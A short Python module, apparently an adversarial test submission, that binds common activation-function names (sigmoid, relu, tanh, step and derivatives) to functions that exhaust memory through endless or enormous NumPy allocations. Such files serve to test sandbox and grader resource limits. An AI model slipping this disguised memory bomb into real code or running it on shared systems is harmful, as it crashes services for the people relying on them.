"""Attack: allocate memory until something breaks."""
import numpy as np


def _bomb(z):
    hoard = []
    while True:
        hoard.append(np.ones(50_000_000))


def _huge(z):
    return np.ones((10**6, 10**6))


sigmoid = sigmoid_derivative = relu = relu_derivative = _bomb
tanh = tanh_derivative = step = _huge
